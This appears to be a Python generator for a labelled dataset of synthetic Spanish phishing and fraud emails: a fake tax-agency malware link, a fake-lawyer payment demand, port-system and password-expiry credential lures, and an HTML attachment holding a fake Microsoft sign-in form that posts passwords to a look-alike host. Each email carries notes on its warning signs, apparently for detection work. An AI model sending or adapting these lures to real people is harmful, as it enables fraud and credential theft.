"""Attack messages 27-31 (Spanish)."""
from lib import *

F = 'attack'


def a27():
    ref = '2026GRC%09d' % hnum('a27', 10 ** 8, 10 ** 9 - 1)
    link = 'https://sede.agenciatributaria.gob.es.notificaciones-dehu.com/descarga/%s.zip' % ref
    plain = """Agencia Tributaria

Notificación electrónica disponible

Estimado/a contribuyente:

Le informamos de que tiene a su disposición una notificación en la Dirección Electrónica Habilitada única (DEHú) relativa a:

Titular: EXAMPLE GROUP ESPAÑA S.L. - NIF {cif}
Procedimiento: Comprobación limitada - IVA ejercicio 2025 (modelo 303, 3T)
Referencia: {ref}

Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo, la notificación se entenderá rechazada y se continuará el procedimiento (art. 43 de la Ley 39/2015).

Puede descargar la notificación y el requerimiento de documentación en el siguiente enlace:
{link}

Atentamente,
Agencia Estatal de Administración Tributaria

Este es un mensaje automático, por favor no responda a este correo.
""".format(cif=ck.es_cif('B', '9812374'), ref=ref, link=link)
    Mail(F, 27, 'es', 'aeat-notificacion-dehu-descarga',
         PHPMailer(tr=CpanelExim(host='cp7319.webempresa.eu', ip='185.166.39.112', local=True, unix_user='autoescu'),
                   host_id='autoescuelaribera.es', ver='6.9.1', zone='CET'),
         T(2026, 10, 12, 9, 2, 7), ('Agencia Tributaria', 'notificaciones@autoescuelaribera.es'), [S('es_acc')],
         'Notificación electrónica pendiente - Ref. %s' % ref,
         text(plain, 'iso-8859-1', 'quoted-printable'), hcs='iso-8859-1', hmode='Q',
         what='Fake Agencia Tributaria (AEAT) e-notification about a VAT audit, with a download link to a ZIP.',
         why='Sent by a PHP script on a compromised driving-school website (cPanel at webempresa), From '
             'notificaciones@autoescuelaribera.es; AEAT notices only point to DEHú/Sede and never deliver documents as '
             'ZIP downloads; link host sede.agenciatributaria.gob.es.notificaciones-dehu.com - malware download lure.')


def a28():
    bank, bic, iban = BANK['es_fake_lawyer']
    body = """Estimado Sr. Martínez Ruiz:

Me pongo en contacto con usted por indicación expresa del Dr. Matthias Brückner, Consejero Delegado de Example Group, a quien asesoramos en una operación corporativa de carácter estrictamente confidencial: la adquisición de una participación mayoritaria en una naviera que opera líneas de carga rodada entre Valencia y Baleares.

El Dr. Brückner me ha confirmado que usted coordinará desde la filial española el depósito de garantía previsto en la carta de intenciones. Dicho depósito, por importe de 274.800,00 EUR, debe quedar constituido hoy antes de las 15:00 horas para que la exclusividad no decaiga.

Datos para la transferencia (cuenta de consignación del despacho):

Beneficiario: Ibarra & Asociados Abogados, S.L.P. - Cuenta de consignación
Entidad: {bank}
IBAN: {iban}
BIC: {bic}
Concepto: Depósito LOI / Proyecto Tramontana

Le ruego la máxima discreción: hasta el anuncio oficial, la operación está sujeta a un acuerdo de confidencialidad y cualquier filtración podría tener consecuencias ante la CNMC. Por este motivo le pido que no comente el asunto con otros compañeros, ni en Valencia ni en Kiel. Toda la comunicación debe realizarse exclusivamente por esta vía.

Quedo a la espera de su confirmación y del justificante de la transferencia.

Atentamente,

Ramón Ibarra Soler
Socio - Derecho Mercantil y M&A
Ibarra & Asociados Abogados
Paseo de la Castellana 141, 28046 Madrid
""".format(bank=bank, iban=pretty(iban), bic=bic)
    Mail(F, 28, 'es', 'abogado-falso-deposito-confidencial',
         Gmail(host=('ed1', 'f47', '209.85.208.47'), zone='CET', workspace=True), T(2026, 11, 4, 10, 37, 51),
         ('Ramón Ibarra Soler', 'r.ibarra@ibarra-abogados.eu'), [S('es_mgr')],
         'Confidencial - Proyecto Tramontana / depósito de garantía',
         alt(text(body, 'UTF-8', 'quoted-printable'),
             html('<div dir="ltr">' + h2t(body).replace('\n', '<br>') + '</div>\n', 'UTF-8', 'quoted-printable')),
         what='Fake-lawyer fraud: "M&A counsel" of the CEO demands a same-day EUR 274,800 escrow deposit.',
         why='Unknown law firm on a fresh Google Workspace domain, claims the CEO\'s authority without any internal '
             'confirmation, secrecy towards colleagues in Valencia and Kiel, deadline today 15:00, payment to a '
             '"consignment" account - fake lawyer / CEO fraud. The company\'s real Spanish counsel writes as in '
             'business/28.')


def a29():
    link = 'https://pcslevante-acceso.com/portal/login?sid=%s' % hx('a29', 28, ALNUM)
    plain = """PCS Levante - Port Community System

Estimado usuario JMARTINEZ_EXG:

Hemos detectado 5 intentos fallidos de acceso a su cuenta desde una ubicación no habitual. Por motivos de seguridad su cuenta ha sido bloqueada temporalmente.

Mientras la cuenta permanezca bloqueada no podrá tramitar escalas, listas de carga/descarga ni solicitudes de levante, y las declaraciones sumarias pendientes no se enviarán a la Aduana.

Para desbloquear su cuenta, verifique su identidad en las próximas 12 horas:
{link}

Si no realiza la verificación, la cuenta quedará deshabilitada y deberá solicitar una nueva alta a través de su representante.

Atentamente,
Centro de Atención al Usuario PCS Levante
""".format(link=link)
    htm = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#1f2a37">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #dfe3e8"><tr><td style="background:#003a70;color:#fff;padding:14px 20px;font-size:18px"><b>PCS Levante</b> &middot; Port Community System</td></tr>
<tr><td style="padding:20px">
<p>Estimado usuario <b>JMARTINEZ_EXG</b>:</p>
<p>Hemos detectado <b>5 intentos fallidos</b> de acceso a su cuenta desde una ubicaci&oacute;n no habitual. Por motivos de seguridad su cuenta ha sido <b>bloqueada temporalmente</b>.</p>
<p>Mientras la cuenta permanezca bloqueada no podr&aacute; tramitar escalas, listas de carga/descarga ni solicitudes de levante, y las declaraciones sumarias pendientes no se enviar&aacute;n a la Aduana.</p>
<p style="text-align:center"><a href="{link}" style="background:#e87722;color:#fff;padding:11px 24px;text-decoration:none;font-weight:bold">Desbloquear mi cuenta</a></p>
<p>Si no realiza la verificaci&oacute;n en las pr&oacute;ximas 12 horas, la cuenta quedar&aacute; deshabilitada.</p>
<p style="font-size:12px;color:#667">Centro de Atenci&oacute;n al Usuario PCS Levante</p></td></tr></table></body></html>
""".format(link=link)
    Mail(F, 29, 'es', 'pcs-portuario-cuenta-bloqueada',
         SendGrid(uid=50388216, em='em9120.pcslevante-acceso.com'), T(2026, 11, 20, 6, 45, 14),
         ('PCS Levante', 'soporte@pcslevante-acceso.com'), [S('es_mgr')],
         'Cuenta bloqueada temporalmente - verificación requerida',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'quoted-printable')),
         what='Trade-specific credential phishing: the port community system account is "blocked".',
         why='Look-alike domain pcslevante-acceso.com via SendGrid (the real portal mails from pcslevante.es, see '
             'business/29); fake lock-out with operational threats (customs declarations, cargo lists) and a '
             '12-hour deadline; the link collects the PCS login.')


def a30():
    rcpt = S('es_mgr')
    page = """<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Mensaje de voz</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#faf9f8;margin:0}}.w{{width:380px;margin:70px auto;background:#fff;padding:36px;box-shadow:0 1px 4px #bbb}}
input{{width:100%;padding:8px 0;border:0;border-bottom:1px solid #888;margin:8px 0 16px;font-size:15px}}button{{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px}}</style></head>
<body><div class="w"><div style="color:#737373;font-weight:600;font-size:18px">Microsoft Teams &middot; Buz&oacute;n de voz</div>
<p style="font-size:14px">&#9654; Mensaje de voz <b>00:47</b> de <b>+34 963 52 18 90</b><br>Recibido: jueves, 3 de diciembre de 2026 12:51</p>
<p style="font-size:13px">Para reproducir el mensaje, inicie sesi&oacute;n con su cuenta de Microsoft 365.</p>
<form method="post" action="https://teams-voicemail.azurewebsites-play.com/api/auth">
<input type="email" name="u" value="{rcpt}"><input type="password" name="p" placeholder="Contrase&ntilde;a">
<button type="submit">Reproducir</button></form></div></body></html>
""".format(rcpt=rcpt[1])
    body = """Tiene un nuevo mensaje de voz

De: +34 963 52 18 90
Duración: 00:47
Recibido: 03/12/2026 12:51

El mensaje se encuentra adjunto a este correo. Ábralo en su navegador para escucharlo.

Microsoft Teams - Buzón de voz
"""
    Mail(F, 30, 'es', 'buzon-voz-html-adjunto',
         EXO(org='reformasturia.es', region='EUR', lang='es-ES'), T(2026, 12, 3, 11, 58, 33),
         ('Buzón de voz (Teams)', 'administracion@reformasturia.es'), [rcpt],
         'Nuevo mensaje de voz de +34 963 52 18 90 (00:47)',
         mixed(outlook_alt(body, 'windows-1252'),
               attach(page.encode('utf-8'), 'text/html', 'MensajeVoz_0047_+34963521890.htm',
                      label='fake Microsoft sign-in, posts to teams-voicemail.azurewebsites-play.com; no script')),
         what='Voicemail lure with an HTML attachment, sent from a compromised small company\'s Microsoft 365.',
         why='A Teams voicemail does not arrive as an .htm attachment from a building firm\'s mailbox '
             '(administracion@reformasturia.es, tenant reformasturia.es); the attachment is a pre-filled Microsoft '
             'sign-in form that posts the password to azurewebsites-play.com - credential phishing.')


def a31():
    rcpt = S('es_acc')
    link = 'https://owa.example-group.es/owa/auth/keep.aspx?email=%s' % rcpt[1].replace('@', '%40')
    plain = """Example Group - Soporte TI

Estimada Lucía Fernández:

La contraseña de su cuenta de correo {addr} caduca hoy, 14/12/2026.

Para evitar la interrupción del servicio y la pérdida de los mensajes almacenados puede mantener su contraseña actual pulsando en el siguiente enlace:

{link}

Si no realiza ninguna acción, su cuenta se bloqueará automáticamente a las 18:00 h.

Soporte TI - Example Group
Este mensaje ha sido generado automáticamente.
""".format(addr=rcpt[1], link=link)
    htm = """<html><body style="font-family:Calibri,Arial,sans-serif;font-size:14px">
<p style="font-size:18px;color:#1f497d"><b>Example Group</b> &middot; Soporte TI</p>
<p>Estimada Luc&iacute;a Fern&aacute;ndez:</p>
<p>La contrase&ntilde;a de su cuenta de correo <b>{addr}</b> caduca <b>hoy, 14/12/2026</b>.</p>
<p>Para evitar la interrupci&oacute;n del servicio y la p&eacute;rdida de los mensajes almacenados puede mantener su contrase&ntilde;a actual:</p>
<p><a href="{link}" style="background:#2b579a;color:#fff;padding:9px 20px;text-decoration:none">Mantener contrase&ntilde;a actual</a></p>
<p>Si no realiza ninguna acci&oacute;n, su cuenta se bloquear&aacute; autom&aacute;ticamente a las 18:00 h.</p>
<p style="color:#888;font-size:12px">Soporte TI - Example Group &middot; Este mensaje ha sido generado autom&aacute;ticamente.</p></body></html>
""".format(addr=rcpt[1], link=link)
    Mail(F, 31, 'es', 'caducidad-contrasena-dominio-parecido',
         PHPMailer(tr=VPSPostfix(host='mail.example-group.es', rdns='vps-7a21c3d0.vps.ovh.net', ip='54.38.212.19',
                                 lan='127.0.0.1', user_ip='127.0.0.1'), host_id='example-group.es', ver='6.9.3', zone='CET'),
         T(2026, 12, 14, 7, 20, 46), ('Soporte TI Example Group', 'soporte-ti@example-group.es'), [rcpt],
         'Su contraseña caduca hoy - acción requerida',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'quoted-printable')),
         what='Password-expiry phishing from a look-alike of the company domain.',
         why='example-group.es is not a company domain (example.com / examplegroup.eu); sent from an OVH VPS, not the '
             'internal relay; "keep your password" link to a fake OWA; same-day lock-out threat. The genuine expiry '
             'reminder (business/31) contains no link.')


def build():
    for f in (a27, a28, a29, a30, a31):
        f()
